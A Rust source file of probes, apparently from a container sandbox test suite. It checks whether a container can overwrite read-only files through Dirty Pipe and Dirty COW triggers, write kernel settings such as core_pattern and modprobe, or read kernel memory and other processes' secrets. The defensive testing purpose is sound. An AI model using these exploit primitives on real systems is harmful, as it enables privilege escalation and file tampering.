//! What `/proc` and `/sys` give away and let change, files that containers share, and what a container begins with.

use std::fs;
use std::io::{self, Read, Write};
use std::os::unix::fs::{FileExt, MetadataExt};

use rustix::pipe::{SpliceFlags, pipe, splice};

use super::Probe;
use super::attempt::{Attempt, call, open};

const fn rewrite(name: &'static str, expected: &'static str, path: &'static str) -> Probe {
    Probe::new(name, expected, Attempt::Rewrite(path))
}

const fn read(name: &'static str, expected: &'static str, path: &'static str) -> Probe {
    Probe::new(name, expected, Attempt::Read(path))
}

const fn attempt(name: &'static str, expected: &'static str, attempt: Attempt) -> Probe {
    Probe::new(name, expected, attempt)
}

/// Ways to write to a file that can only be read, by the pages that all containers share.
#[rustfmt::skip]
pub(super) const PAGE_CACHE: &[Probe] = &[
    attempt("Copy Fail: pages of a file into AF_ALG", "EAFNOSUPPORT", Attempt::Do(copy_fail)),
    attempt("Dirty Pipe: write behind a spliced page", "nothing", Attempt::Do(dirty_pipe)),
    attempt("Dirty COW: write to a mapping by /proc/self/mem", "nothing", Attempt::Alone(dirty_cow)),
    attempt("change a file of the image", "allowed / EACCES", Attempt::Write("/shared", "changed")),
];

/// Settings and triggers of the machine, and secrets of the kernel.
#[rustfmt::skip]
pub(super) const PROC: &[Probe] = &[
    attempt("write sysrq-trigger", "EACCES", Attempt::Write("/proc/sysrq-trigger", "h")),
    rewrite("write kernel.core_pattern", "EACCES", "/proc/sys/kernel/core_pattern"),
    rewrite("write kernel.modprobe", "EACCES", "/proc/sys/kernel/modprobe"),
    rewrite("write kernel.printk", "EACCES", "/proc/sys/kernel/printk"),
    rewrite("write kernel.domainname", "EACCES", "/proc/sys/kernel/domainname"),
    rewrite("write kernel.yama.ptrace_scope", "EACCES", "/proc/sys/kernel/yama/ptrace_scope"),
    rewrite("write kernel.randomize_va_space", "EACCES", "/proc/sys/kernel/randomize_va_space"),
    rewrite("write vm.overcommit_memory", "EACCES", "/proc/sys/vm/overcommit_memory"),
    rewrite("write vm.panic_on_oom", "EACCES", "/proc/sys/vm/panic_on_oom"),
    rewrite("write fs.file-max", "EACCES", "/proc/sys/fs/file-max"),
    rewrite("write fs.protected_symlinks", "EACCES", "/proc/sys/fs/protected_symlinks"),
    rewrite("write net.ipv4.ip_forward", "EACCES", "/proc/sys/net/ipv4/ip_forward"),
    rewrite("write net.core.somaxconn", "EACCES", "/proc/sys/net/core/somaxconn"),
    rewrite("write user.max_user_namespaces", "EACCES", "/proc/sys/user/max_user_namespaces"),
    rewrite("write the mask of an interrupt", "EACCES", "/proc/irq/default_smp_affinity"),
    attempt("write an event of a device", "EACCES", Attempt::Write("/sys/devices/virtual/mem/null/uevent", "none")),
    attempt("write a kernel's parameter", "EACCES", Attempt::Rewrite("/sys/module/printk/parameters/time")),
    read("read /proc/kcore", "nothing", "/proc/kcore"),
    read("read /proc/keys", "nothing", "/proc/keys"),
    read("read /proc/timer_list", "nothing", "/proc/timer_list"),
    read("read /proc/interrupts", "nothing", "/proc/interrupts"),
    attempt("list /proc/acpi", "nothing", Attempt::List("/proc/acpi")),
    attempt("list /sys/firmware", "nothing", Attempt::List("/sys/firmware")),
    attempt("list /sys/kernel/debug", "ENOENT", Attempt::List("/sys/kernel/debug")),
    attempt("list /sys/fs/bpf", "nothing", Attempt::List("/sys/fs/bpf")),
    read("read /proc/kmsg", "EACCES", "/proc/kmsg"),
    read("read /proc/slabinfo", "EACCES", "/proc/slabinfo"),
    read("read /proc/vmallocinfo", "EACCES", "/proc/vmallocinfo"),
    read("read /proc/pagetypeinfo", "EACCES", "/proc/pagetypeinfo"),
    read("read /proc/kpageflags", "EACCES", "/proc/kpageflags"),
    read("read /sys/kernel/vmcoreinfo", "allowed", "/sys/kernel/vmcoreinfo"),
    attempt("addresses in /proc/kallsyms", "nothing", Attempt::Do(|| has_address("/proc/kallsyms", 0))),
    attempt("addresses in /proc/modules", "nothing", Attempt::Do(|| has_address("/proc/modules", 5))),
    attempt("addresses in /proc/iomem", "nothing", Attempt::Do(|| has_address("/proc/iomem", 0))),
    attempt("physical pages in /proc/self/pagemap", "nothing", Attempt::Do(pagemap)),
    attempt("environment of PID 1 of the machine", "ENOENT", Attempt::Do(|| first("environ", Way::Read))),
    attempt("memory of PID 1 of the machine", "ENOENT", Attempt::Do(|| first("mem", Way::Write))),
    attempt("root of PID 1 of the machine", "ENOENT", Attempt::Do(|| first("root", Way::List))),
    attempt("working directory of PID 1 of the machine", "ENOENT", Attempt::Do(|| first("cwd", Way::List))),
    attempt("descriptors of PID 1 of the machine", "ENOENT", Attempt::Do(|| first("fd", Way::List))),
    attempt("program of PID 1 of the machine, for writing", "ENOENT", Attempt::Do(|| first("exe", Way::Write))),
];

/// What was open, or in place, before the program ran.
#[rustfmt::skip]
pub(super) const START: &[Probe] = &[
    attempt("a descriptor beyond 0, 1 and 2", "nothing", Attempt::Do(descriptors)),
    attempt("a folder among the descriptors", "nothing", Attempt::Do(folders)),
    attempt("a standard descriptor that is neither /dev/null nor a pipe", "nothing", Attempt::Do(standard)),
    attempt("a working directory outside the root", "nothing", Attempt::Do(outside)),
    attempt("open its own program for writing", "ETXTBSY / EACCES", Attempt::OpenToWrite("/proc/self/exe")),
    attempt("open the first process's program for writing", "ETXTBSY / EACCES", Attempt::OpenToWrite("/proc/1/exe")),
    attempt("a mount that shows another's events", "nothing", Attempt::Do(propagation)),
    attempt("a variable that the image does not set", "nothing", Attempt::Do(variables)),
    attempt("a controlling terminal", "ENXIO", Attempt::Open("/dev/tty")),
];

/// What is nobody else's business.
#[rustfmt::skip]
pub(super) const INFORMATION: &[Probe] = &[
    attempt("see another service's process", "nothing", Attempt::Do(|| Ok(!victims()?.is_empty()))),
    attempt("another service's environment", "ENOENT", Attempt::Do(|| of_victim("environ", Way::Read))),
    attempt("another service's files", "ENOENT", Attempt::Do(|| of_victim("root", Way::List))),
    attempt("another service's output", "ENOENT", Attempt::Do(|| of_victim("fd/1", Way::Write))),
    attempt("the machine's log", "ENOENT", Attempt::Open("/dev/kmsg")),
    attempt("the machine's mounts", "nothing", Attempt::Do(machine_mounts)),
    read("the boot manifest", "ENOENT", "/coracle/manifest.json"),
    attempt("layers of other images", "ENOENT", Attempt::List("/run/coracle")),
    read("the machine's id", "ENOENT", "/etc/machine-id"),
    read("the kernel's command line", "allowed", "/proc/cmdline"),
    read("the machine's connections", "allowed", "/proc/net/tcp"),
    read("the serial number of the board", "EACCES", "/sys/class/dmi/id/product_serial"),
    read("ACPI tables", "ENOENT", "/sys/firmware/acpi/tables/DSDT"),
];

enum Way {
    Read,
    Write,
    List,
}

/// Something of a process.
fn of_process(pid: &str, what: &str, way: Way) -> io::Result<bool> {
    let path = format!("/proc/{pid}/{what}");
    match way {
        Way::Read => Ok(open(&path, false)?.read(&mut [0; 64])? > 0),
        Way::Write => open(&path, true).map(|_| true),
        Way::List => fs::read_dir(path).map(|_| true),
    }
}

fn not_there() -> io::Error {
    io::Error::from_raw_os_error(2)
}

/// Something of the machine's first process, where that is seen at all.
fn first(what: &str, way: Way) -> io::Result<bool> {
    if fs::read_to_string("/proc/1/comm")? != "init\n" {
        return Err(not_there());
    }
    of_process("1", what, way)
}

/// Processes of the service that is the victim of all this, as far as they are seen.
///
/// # Errors
///
/// When `/proc` cannot be listed.
pub fn victims() -> io::Result<Vec<String>> {
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc")? {
        let name = entry?.file_name().to_string_lossy().into_owned();
        let line = fs::read(format!("/proc/{name}/cmdline")).unwrap_or_default();
        if line == b"/hostile\0victim\0" {
            found.push(name);
        }
    }
    Ok(found)
}

fn of_victim(what: &str, way: Way) -> io::Result<bool> {
    let victims = victims()?;
    of_process(victims.first().ok_or_else(not_there)?, what, way)
}

/// The kernel would encrypt pages of a file in place (CVE-2026-31431); it begins with a socket of AF_ALG.
fn copy_fail() -> io::Result<bool> {
    const AF_ALG: u64 = 38;
    const SEQPACKET: u64 = 5;
    call(41, &[AF_ALG, SEQPACKET, 0], b"", None)
}

/// The flag that a page of a pipe can be written behind stays set in a broken kernel (CVE-2022-0847).
fn dirty_pipe() -> io::Result<bool> {
    const PATH: &str = "/call-i386";
    let before = fs::read(PATH)?;
    let (reader, writer) = pipe()?;
    let (mut reader, mut writer) = (fs::File::from(reader), fs::File::from(writer));
    let mut block = [0; 4096];
    for _ in 0..16 {
        writer.write_all(&block)?;
    }
    for _ in 0..16 {
        reader.read_exact(&mut block)?;
    }
    let file = open(PATH, false)?;
    let mut offset = 3;
    splice(&file, Some(&mut offset), &writer, None, 1, SpliceFlags::empty())?;
    writer.write_all(b"overwritten")?;
    Ok(fs::read(PATH)? != before)
}

/// What is written to a private mapping by force must not reach the file (CVE-2016-5195).
fn dirty_cow() -> io::Result<bool> {
    let maps = fs::read_to_string("/proc/self/maps")?;
    // The first mapping of the program itself begins with its header, which nobody reads any more.
    let begin = maps.split('-').next().and_then(|digits| u64::from_str_radix(digits, 16).ok());
    let memory = fs::OpenOptions::new().write(true).open("/proc/self/mem")?;
    memory.write_all_at(b"overwritten", begin.ok_or_else(not_there)? + 8)?;
    Ok(fs::read("/hostile")?[8..].starts_with(b"overwritten"))
}

/// Whether a word of any line is an address other than 0.
fn has_address(path: &str, word: usize) -> io::Result<bool> {
    // The first of them do: a kernel has a hundred thousand symbols.
    let mut text = String::new();
    open(path, false)?.take(1 << 16).read_to_string(&mut text)?;
    let digits = |line: &str| line.split_whitespace().nth(word).unwrap_or_default().to_owned();
    Ok(text
        .lines()
        .any(|line| digits(line).trim_start_matches("0x").bytes().any(|b| b"123456789abcdef".contains(&b))))
}

/// The number of the page that holds this function's own variable.
fn pagemap() -> io::Result<bool> {
    let here = 1_u64;
    let address = std::ptr::from_ref(&here) as usize as u64;
    let mut entry = [0; 8];
    fs::File::open("/proc/self/pagemap")?.read_exact_at(&mut entry, address / 4096 * 8)?;
    Ok(u64::from_ne_bytes(entry) & ((1 << 55) - 1) != 0)
}

/// Open descriptors; the one that lists them is gone when it is looked at.
fn open_descriptors() -> io::Result<Vec<String>> {
    let names = fs::read_dir("/proc/self/fd")?.filter_map(|entry| entry.ok());
    let names: Vec<String> = names.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    Ok(names.into_iter().filter(|name| fs::read_link(format!("/proc/self/fd/{name}")).is_ok()).collect())
}

fn descriptors() -> io::Result<bool> {
    Ok(open_descriptors()?.iter().any(|name| !["0", "1", "2"].contains(&name.as_str())))
}

fn folders() -> io::Result<bool> {
    let is_folder =
        |name: &String| fs::metadata(format!("/proc/self/fd/{name}")).is_ok_and(|data| data.is_dir());
    Ok(open_descriptors()?.iter().any(is_folder))
}

/// Those of the container's first process.
fn standard() -> io::Result<bool> {
    for number in 0..3 {
        let target = fs::read_link(format!("/proc/1/fd/{number}"))?;
        let target = target.to_string_lossy();
        if target != "/dev/null" && target != "/null" && !target.starts_with("pipe:") {
            return Ok(true);
        }
    }
    Ok(false)
}

fn outside() -> io::Result<bool> {
    let root = fs::metadata("/")?;
    let above = fs::metadata("../../../../../../..")?;
    let cwd = fs::read_link("/proc/self/cwd")?;
    Ok((root.dev(), root.ino()) != (above.dev(), above.ino()) || !cwd.starts_with("/"))
}

/// A shared mount, or one that follows another.
fn propagation() -> io::Result<bool> {
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    Ok(mounts.contains(" shared:") || mounts.contains(" master:"))
}

fn variables() -> io::Result<bool> {
    const USUAL: [&str; 4] = ["PATH", "HOME", "HOSTNAME", "IMAGE"];
    Ok(std::env::vars_os().any(|(name, _)| !USUAL.iter().any(|usual| name == *usual)))
}

/// The mounts on which layers and the stage stand outside.
fn machine_mounts() -> io::Result<bool> {
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    Ok(mounts.lines().any(|line| line.split(' ').nth(4).is_some_and(|at| at.starts_with("/run/coracle"))))
}
